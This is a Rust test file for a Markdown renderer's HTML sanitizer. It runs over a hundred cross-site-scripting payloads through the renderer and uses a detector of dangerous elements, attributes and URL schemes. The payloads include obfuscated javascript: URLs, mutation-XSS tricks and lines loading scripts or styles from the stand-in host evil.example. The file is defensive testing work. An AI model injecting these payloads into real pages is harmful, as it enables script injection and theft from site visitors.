//! HTML of authors: attacks become harmless, and useful markup remains.

use std::cell::RefCell;

use crate::support::{load, read, tag};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use isogloss::Site;
use isogloss::content::RawHtml;
use isogloss::render::{EntryLinks, ImageResolver, ImageSources, Loading, Markdown};
use isogloss::site::Sanitizer;

/// Whether the feature is enabled.
const IS_THERE: bool = cfg!(feature = "sanitize");

fn sanitized(text: &str) -> String {
    Markdown::new().with_raw_html(RawHtml::Sanitize).to_html(text).into_string()
}

/// The elements of a page with their attributes, as the tokenizer of a browser reads them. It
/// ignores that some elements contain raw text, so it finds more tags than a browser, never fewer.
#[derive(Default)]
struct Elements(RefCell<Vec<Element>>);

/// The name of an element, and its attributes with their values.
type Element = (String, Vec<(String, String)>);

impl TokenSink for Elements {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token
            && tag.kind == TagKind::StartTag
        {
            let attributes =
                tag.attrs.iter().map(|it| (it.name.local.to_string(), it.value.to_string()));
            self.0.borrow_mut().push((tag.name.to_string(), attributes.collect()));
        }
        TokenSinkResult::Continue
    }
}

fn elements(html: &str) -> Vec<Element> {
    let tokenizer = Tokenizer::new(Elements::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

const ELEMENTS: &str = "a abbr b blockquote br code dd del details div dl dt em figure h2 h3 h4 h5 h6 hr i \
    img input kbd li ol p picture pre q s source span strong sub summary sup table tbody td th thead tr u ul";

/// Returns the first dangerous part of a page.
fn danger(html: &str) -> Option<String> {
    for (element, attributes) in elements(html) {
        if !ELEMENTS.split_ascii_whitespace().any(|known| known == element) {
            return Some(format!("the element {element}"));
        }
        for (name, value) in attributes {
            let is_alignment =
                ["text-align: left", "text-align: center", "text-align: right"].contains(&&*value);
            let is_refused = name.starts_with("on")
                || ["srcdoc", "formaction", "action", "http-equiv", "ping", "xmlns"]
                    .contains(&&*name)
                || name.contains(':')
                || (name == "style" && !is_alignment);
            if is_refused {
                return Some(format!("the attribute {name} of {element}"));
            }
            let addresses: Vec<&str> = match &*name {
                "srcset" => value.split([',', ' ', '\t', '\n']).collect(),
                "href" | "src" | "cite" | "poster" | "background" => vec![&value],
                _ => continue,
            };
            for address in addresses {
                // The URL parser of a browser ignores these characters (WHATWG URL, 4.4).
                let seen: String =
                    address.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
                let Some((scheme, _)) = seen.split_once(':') else { continue };
                let is_scheme =
                    scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
                let known = ["http", "https", "mailto", "tel"];
                if is_scheme && !known.contains(&&*scheme.to_ascii_lowercase()) {
                    return Some(format!("{name} of {element} is {address}"));
                }
            }
        }
    }
    None
}

#[rustfmt::skip]
const PAYLOADS: [&str; 111] = [
    // Elements that run code.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "a <iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">x</object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=javascript:alert(1)//>",
    "a <base href=//evil.example/> b",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "a <meta http-equiv=\"refresh\" content=\"0; url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "a <link rel=import href=x>",
    "<style>@import '//evil.example/x.css';</style>",
    "a <style>*{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "a <input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1) tabindex=0 id=x>x</x>",
    // Attributes.
    "<img src=x onerror=alert(1)>",
    "a <img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' \u{0c}onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror\u{0b}=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img srcset=\"x.png 1x, data:image/svg+xml,<svg/onload=alert(1)> 2x\">",
    "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<td style=\"text-align: left; background: url(//evil.example)\">x</td>",
    "a <b style=\"position:fixed;inset:0\">b</b>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "a <a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "a <a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "a <a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
    "a <a href=\" \u{1}javascript:alert(1)\">x</a>",
    "a <a href=\"java&NewLine;script:alert(1)\">x</a>",
    "a <a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "a <a href=vbscript:msgbox(1)>x</a>",
    "a <a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "a <a href=\"blob:https://example.org/1\">x</a>",
    "a <a href=x ping=//evil.example>x</a>",
    "a <a href=x xlink:href=javascript:alert(1)>x</a>",
    "a <q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    // SVG and MathML, and markup that changes its meaning when it is parsed again.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>\"/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "a <!-- --!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "</p></div></body><script>alert(1)</script>",
    // Links and images of Markdown.
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1)) [b](\u{1}javascript:alert(1)) [c](<java\nscript:alert(1)>)",
    "[a](data:text/html,x) ![b](data:image/svg+xml,x) ![c](javascript:alert(1))",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "[a]: javascript:alert(1) \"x\"\n\n[a] ![a] [x][a]",
    "[a](x \"\\\" onmouseover=alert(1) x=\\\"\") ![b](y '\" onerror=alert(1) \"')",
    "![\" onerror=alert(1) x=\"](x.png) ![*\"><script>alert(1)</script>*](y.png)",
    "## x {#\"onclick=alert(1) onfocus=alert(1) .\"><script>}",
    "### \"><img src=x onerror=alert(1)> `<script>`",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "a | b\n:-|-:\n<script>alert(1)</script> | <img src=x onerror=alert(1)>",
];

/// A resolver that returns the given source in every place.
struct Echo;

impl ImageResolver for Echo {
    fn image(&self, source: &str) -> Option<ImageSources> {
        let sources = ImageSources::new().with_source(source).with_candidate(source, "2x");
        Some(sources.with_sizes(source).with_loading(Loading::Lazy))
    }
}

#[test]
fn attacks_are_neutralised() {
    // First the check itself: it finds each of these.
    for bad in ["<script>", "<img src=x onerror=y>", "<a href=' java\tscript:x'>", "<p style=x>"] {
        assert!(danger(bad).is_some(), "{bad}");
    }
    let catalog = load("fr", "", &[("pages/a/fr.md", "+++\ntitle = \"A\"\n+++\nx\n")]);
    let entry = read(&catalog, "fr").get("pages/a").unwrap();
    let links = EntryLinks::new(&entry);
    // A careless site that allows far too much.
    let careless = ["script", "style", "svg", "math", "iframe", "base", "meta", "form", "noscript"];
    let mut wide = Sanitizer::new();
    for name in careless.iter().filter(|name| **name != "iframe") {
        wide = wide.with_element(name).with_attribute(name, "src").with_attribute(name, "href");
    }
    for name in ["onerror", "onload", "style", "srcdoc", "formaction", "xlink:href", "background"] {
        wide = wide.with_attribute("*", name).with_attribute("img", name);
    }
    for payload in PAYLOADS {
        for rule in [RawHtml::Escape, RawHtml::Sanitize] {
            let plain = Markdown::new().with_raw_html(rule);
            let all = plain.clone().with_links(&links).with_images(&Echo).with_heading_ids(true);
            let all = all.with_typography(tag("fr")).with_id_prefix("x\" onclick=\"y");
            for markdown in [&plain, &all, &all.clone().with_sanitizer(&wide)] {
                for text in [payload.to_owned(), format!("- {payload}\n\n> x {payload}\n")] {
                    let html = markdown.to_html(&text).into_string();
                    if let Some(danger) = danger(&html) {
                        panic!("{rule:?}: {danger}\n{text}\n{html}");
                    }
                }
            }
        }
    }
}

#[test]
fn useful_markup_remains() {
    if !IS_THERE {
        return;
    }
    let table = [
        ("H<sub>2</sub>O <kbd>Ctrl</kbd>", "<p>H<sub>2</sub>O <kbd>Ctrl</kbd></p>\n"),
        (
            "<details open>\n<summary>Meer</summary>\n\n*Tekst*\n\n</details>",
            "<details open=\"\">\n<summary>Meer</summary>\n<p><em>Tekst</em></p>\n</details>",
        ),
        (
            "<span lang=de dir=ltr class=x>Rat</span>",
            "<p><span lang=\"de\" dir=\"ltr\">Rat</span></p>\n",
        ),
        // The words of removed elements remain, except those of scripts and styles.
        ("a <font color=red>b</font> <script>c</script>d", "<p>a b d</p>\n"),
        ("a <a href='/x' target=_blank>b</a>", "<p>a <a href=\"/x\">b</a></p>\n"),
        ("a <a href='ftp://x'>b</a>", "<p>a <a>b</a></p>\n"),
        ("a <!-- note --> b", "<p>a  b</p>\n"),
        // Open elements are closed.
        ("<div>\n\nTekst", "<div>\n<p>Tekst</p>\n</div>"),
        ("</div>\n\nTekst", "\n<p>Tekst</p>\n"),
        ("<h2 id=a onclick=b>x</h2>\n", "<h2 id=\"a\">x</h2>\n"),
        (
            "<b>x</b>\n\n- [x] fait\n",
            "<p><b>x</b></p>\n<ul>\n<li><label><input type=\"checkbox\" disabled=\"\" checked=\"\"> fait</label></li>\n</ul>\n",
        ),
        (
            "<b>x</b>\n\n```rust\na\n```\n",
            "<p><b>x</b></p>\n<pre><code class=\"language-rust\">a\n</code></pre>\n",
        ),
        (
            "<b>x</b>[^1]\n\n[^1]: y\n",
            "<p><b>x</b><sup class=\"footnote-reference\" id=\"ref-note-1\"><a href=\"#note-1\">1</a></sup></p>\n<div class=\"footnote-definition\" id=\"note-1\"><sup class=\"footnote-definition-label\"><a href=\"#ref-note-1\">1</a></sup>\n<p>y</p>\n</div>\n",
        ),
        (
            "<b>x</b>\n\n| a |\n|-:|\n| 1 |\n",
            "<p><b>x</b></p>\n<table><thead><tr><th style=\"text-align: right\">a</th></tr></thead><tbody>\n<tr><td style=\"text-align: right\">1</td></tr>\n</tbody></table>\n",
        ),
        (
            "<img src=a.png srcset=\"a.png 1x, b.png 2x\" alt=x>",
            "<img src=\"a.png\" srcset=\"a.png 1x, b.png 2x\" alt=\"x\">",
        ),
    ];
    let mut wrong = Vec::new();
    for (text, expected) in table {
        let html = sanitized(text);
        if html != expected {
            wrong.push(format!("{text:?}\n  {expected:?}\n  {html:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // A text without HTML does not change.
    let text = "*a* \"b\" ![c](d.png)\n";
    assert_eq!(sanitized(text), Markdown::new().to_html(text).as_str());
}

#[test]
fn a_site_allows_more_and_each_kind_has_its_rule() {
    let site = "raw_html = \"sanitize\"\n[sanitize]\nelements = [\"video\", \"script\"]\n\
        attributes = { video = [\"src\", \"onplay\"], \"*\" = [\"role\"] }\nclasses = [\"note\"]\n\
        [kinds.news-item]\nraw_html = \"escape\"\n[kinds.trusted]\nfolder = \"trusted\"\nraw_html = \"trust\"\n";
    let text = "<p class=\"note x\" role=note>a</p>\n\n<video src=\"v.mp4\" onplay=x></video>\n";
    let page = format!("+++\ntitle = \"A\"\n+++\n{text}");
    let item = format!("+++\ntitle = \"A\"\ndate = 2025-01-01\n+++\n{text}");
    let files = [("pages/a/fr.md", &*page), ("news/a/fr.md", &*item), ("trusted/a/fr.md", text)];
    let catalog = load("fr", site, &files);
    let edition = read(&catalog, "fr");
    let html = |id: &str| {
        let entry = edition.get(id).unwrap();
        let markdown = Markdown::of_entry(&entry);
        markdown.body_to_html(&entry.body().unwrap(), tag("fr")).into_string()
    };
    let escaped = html("news/a");
    assert!(escaped.starts_with("<p>&lt;p class="), "{escaped}");
    assert!(html("trusted/a").contains("onplay=x"));
    match IS_THERE {
        true => assert_eq!(
            html("pages/a"),
            "<p class=\"note\" role=\"note\">a</p>\n<p><video src=\"v.mp4\"></video></p>\n"
        ),
        false => assert_eq!(html("pages/a"), escaped),
    }
}

#[test]
fn a_program_without_the_sanitizer_reports_it() {
    let expected: &[&str] = if IS_THERE { &[] } else { &["missing-feature"] };
    for rule in [
        "raw_html = \"sanitize\"\n[[languages]]\ntag = \"fr\"\n",
        "[[languages]]\ntag = \"fr\"\n[kinds.page]\nraw_html = \"sanitize\"\n",
    ] {
        let site = Site::parse_toml(rule).unwrap();
        let codes: Vec<&str> = site.warnings().iter().map(|it| it.code().as_str()).collect();
        assert_eq!(codes, expected, "{rule}");
    }
    let error =
        Site::parse_toml("raw_html = \"sanitise\"\n[[languages]]\ntag = \"fr\"\n").unwrap_err();
    assert!(error.report().unwrap().to_string().contains("sanitize"));
}

#[test]
fn pictures_have_the_sources_of_the_resolver() {
    struct Sizes;
    impl ImageResolver for Sizes {
        fn image(&self, source: &str) -> Option<ImageSources> {
            source.ends_with(".jpg").then(|| ImageSources::new().with_dimensions(8, 6))
        }
    }
    let table = [
        ("![a](b.jpg)", "<img src=\"b.jpg\" width=\"8\" height=\"6\" alt=\"a\" />"),
        (
            "![a *b* `c` [d](e) \"](b.jpg \"t & u\")",
            "<img src=\"b.jpg\" width=\"8\" height=\"6\" alt=\"a b c d &quot;\" title=\"t &amp; u\" />",
        ),
        ("![a ![b](c.jpg)](d.jpg)", "<img src=\"d.jpg\" width=\"8\" height=\"6\" alt=\"a b\" />"),
        (
            "[![a](b.jpg)](/c)",
            "<a href=\"/c\"><img src=\"b.jpg\" width=\"8\" height=\"6\" alt=\"a\" /></a>",
        ),
        ("![a](b.png)", "<img src=\"b.png\" alt=\"a\" />"),
        ("![a](javascript:b.jpg)", "a"),
        (
            "![a <b>c</b>](b.jpg)",
            "<img src=\"b.jpg\" width=\"8\" height=\"6\" alt=\"a &lt;b&gt;c&lt;/b&gt;\" />",
        ),
    ];
    for (text, expected) in table {
        let html = Markdown::new().with_images(&Sizes).to_html(text).into_string();
        assert_eq!(html, format!("<p>{expected}</p>\n"), "{text}");
    }
    let sources = ImageSources::new().with_candidate("a b,c.png", "2x");
    struct One(ImageSources);
    impl ImageResolver for One {
        fn image(&self, _: &str) -> Option<ImageSources> {
            Some(self.0.clone())
        }
    }
    let html = Markdown::new().with_images(&One(sources)).to_html("![](x.png)").into_string();
    assert_eq!(html, "<p><img src=\"x.png\" srcset=\"a%20b%2Cc.png 2x\" alt=\"\" /></p>\n");
}

#[test]
fn the_attribute_translate_remains() {
    if !IS_THERE {
        return;
    }
    for (text, expected) in [
        ("<b translate=no>NMBS</b>", "<p><b translate=\"no\">NMBS</b></p>\n"),
        ("<code translate=YES>a</code>", "<p><code translate=\"YES\">a</code></p>\n"),
        ("<span translate>a</span>", "<p><span translate=\"\">a</span></p>\n"),
        ("<span translate=maybe>a</span>", "<p><span>a</span></p>\n"),
    ] {
        assert_eq!(sanitized(text), expected);
    }
}
